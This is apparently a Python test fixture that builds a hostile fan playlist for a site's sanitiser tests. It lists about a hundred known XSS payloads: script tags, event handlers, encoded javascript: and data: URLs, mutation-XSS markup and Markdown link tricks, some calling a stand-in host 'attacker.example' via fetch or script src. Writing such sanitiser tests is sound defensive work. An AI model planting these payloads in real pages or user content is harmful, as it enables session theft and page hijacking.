"""Known XSS vectors, written for these tests from the public cheat-sheet families.

Each payload, if it ever ran, would show itself: a dialog (alert/confirm/
prompt), a console line containing MARKER, or a request to ATTACKER. They are
fed through a fan's playlist file (the Markdown body and the front-matter
strings) by test_xss.py, and through the sanitiser alone by test_sanitize.py.
"""
from __future__ import annotations

import yaml

ATTACKER = "attacker.example"
MARKER = "XSS-FIRED"
LOG = f"console.log('{MARKER}')"
FETCH = f"fetch('//{ATTACKER}/f')"

# Raw HTML and Markdown a fan could put in the body of a playlist.
BODY_VECTORS = [
    # plain script, and ways of hiding it from naive filters
    "<script>alert(1)</script>",
    f"<script src=//{ATTACKER}/x.js></script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<<script>alert(4)//<</script>",
    f"<script>{LOG}</script>",
    "<script\n>alert(5)</script\n>",
    '<img """><script>alert(6)</script>">',
    # event handlers on ordinary and forgotten elements
    "<img src=x onerror=alert(7)>",
    "<IMG SRC=x OnErRoR=alert(8)>",
    "<img/src='x'/onerror=alert(9)>",
    f"<img src=x onerror=\"{FETCH}\">",
    "<body onload=alert(10)>",
    "<svg onload=alert(11)>",
    "<svg/onload=alert(12)//",
    "<details open ontoggle=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<select autofocus onfocus=alert(15)></select>",
    "<textarea autofocus onfocus=alert(16)></textarea>",
    "<marquee onstart=alert(17)>x</marquee>",
    "<video><source onerror=alert(18)></video>",
    "<audio src=x onerror=alert(19)></audio>",
    '<p onmouseover="alert(20)">hover me</p>',
    '<div onpointerenter="alert(21)">point at me</div>',
    '<a href="#" onclick="alert(22)">click me</a>',
    f'<span onanimationstart="{LOG}" style="animation:x 1s">x</span>',
    "<x onafterscriptexecute=alert(23)>",
    # URLs that run code
    '<a href="javascript:alert(24)">js link</a>',
    '<a href="JaVaScRiPt:alert(25)">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(26)">decimal entities</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(27)">hex entities</a>',
    '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(28)">no semicolons</a>',
    '<a href="java&#0000115;cript:alert(29)">padded entity</a>',
    '<a href="jav&#x09;ascript:alert(30)">embedded tab</a>',
    '<a href="jav&#x0A;ascript:alert(31)">embedded newline</a>',
    '<a href=" &#14; javascript:alert(32)">leading junk</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4=">data URL</a>',
    '<a href="vbscript:msgbox(34)">vbscript</a>',
    '<img src="javascript:alert(35)">',
    "<iframe src=javascript:alert(36)></iframe>",
    '<iframe srcdoc="<script>alert(37)</script>"></iframe>',
    f"<iframe src=//{ATTACKER}/frame></iframe>",
    '<object data="javascript:alert(38)"></object>',
    f'<embed src="//{ATTACKER}/x.swf">',
    '<form action="javascript:alert(39)"><button>go</button></form>',
    "<button formaction=javascript:alert(40)>go</button>",
    '<math><a xlink:href="javascript:alert(41)">math link</a></math>',
    '<svg><a xlink:href="javascript:alert(42)"><text x="20" y="20">svg link</text></a></svg>',
    '<svg><animate onbegin=alert(43) attributeName=x dur=1s>',
    '<svg><set attributeName="href" to="javascript:alert(44)"/></svg>',
    f'<svg><image href="//{ATTACKER}/pixel.png"/></svg>',
    # CSS: code and requests through styles
    '<div style="background:url(javascript:alert(45))">css url</div>',
    '<div style="width: expression(alert(46))">css expression</div>',
    f"<style>@import '//{ATTACKER}/x.css';</style>",
    f'<div style="background-image:url(//{ATTACKER}/bg.png)">css request</div>',
    f'<link rel="stylesheet" href="//{ATTACKER}/x.css">',
    # page hijacks
    f'<meta http-equiv="refresh" content="0;url=//{ATTACKER}/">',
    f'<base href="//{ATTACKER}/">',
    f'<img src="//{ATTACKER}/pixel.gif" alt="tracking pixel">',
    # mutation XSS: markup that changes meaning when parsed twice
    '<noscript><p title="</noscript><img src=x onerror=alert(47)>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(48)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(49)></style></svg>",
    '<!--<img src="--><img src=x onerror=alert(50)//">',
    "<![CDATA[<script>alert(51)</script>]]>",
    "<template><script>alert(52)</script></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(53)>"></textarea>',
    # quotes and attribute breakouts
    '"><script>alert(54)</script>',
    "'><img src=x onerror=alert(55)>",
    '<a href="https://ok.example/" title="x" onmouseover="alert(56)">quoted</a>',
    '<a title="a\' onmouseover=alert(57) \'">nested quotes</a>',
    # Markdown's own ways to make links and attributes
    "[md link](javascript:alert(58))",
    "[md upper](JAVASCRIPT:alert(59))",
    "[md entity](javascript&#58;alert(60))",
    "[md angle](<javascript:alert(61)>)",
    "![md image](javascript:alert(62))",
    "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCg2Myk8L3NjcmlwdD4=)",
    "[reference link][evil]\n\n[evil]: javascript:alert(64)",
    "<javascript:alert(65)>",
    '[attr list](https://ok.example/){: onclick="alert(66)" }',
    'A paragraph with attributes.\n{: onmouseover="alert(67)" style="position:fixed;inset:0" }',
    '<a href="https://ok.example/" target="_blank">tabnabbing</a>',
]

# Short ones for front-matter strings with a length limit (curator name: 100 characters).
SHORT_VECTORS = [
    "<script>alert(101)</script>",
    '"><img src=x onerror=alert(102)>',
    "</script><script>alert(103)</script>",
    "'-alert(104)-'",
    "<svg/onload=alert(105)>",
    "{{ 7*7 }}<b>bold</b>",
    "]]><script>alert(106)</script>",
    "</title><script>alert(107)</script>",
]

# Where a URL key is given one of these, `fanzine check` refuses it (schema.Url).
URL_VECTORS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://ok.example/" onmouseover="alert(1)',
    "https://ok.example/<script>",
]


# A fan's playlist carrying every vector, in its body and in every key of its front matter.
SLUG = "evil-mixtape"


def evil_playlist() -> str:
    tracks = [{"artist": "Nova Lights" if i % 3 == 0 else vector[:200], "title": vector[:300], "note": vector[:500]}
              for i, vector in enumerate(BODY_VECTORS + SHORT_VECTORS)]
    front = {
        "title": SHORT_VECTORS[7],
        "curator": {"name": SHORT_VECTORS[1], "url": "https://ok.example/~fan?x=1&y=2"},
        "date": "2026-11-20",
        "summary": "Summary " + SHORT_VECTORS[0] + " [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
        "cover": "images/last-train-home.jpg",
        "cover_alt": SHORT_VECTORS[1],
        "links": {"spotify": "https://open.spotify.com/playlist/i0d9TH4QgTNBEjE4o24hOS?si=%22%3E%3Cscript%3E"},
        "player": "spotify",
        "tags": ["<script>", "x\" onmouseover=\"alert(1)"],
        "tracks": tracks,
    }
    body = "\n\n".join(f"Vector {i}: {vector}" for i, vector in enumerate(BODY_VECTORS))
    return "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False) + "---\n" + body + "\n"
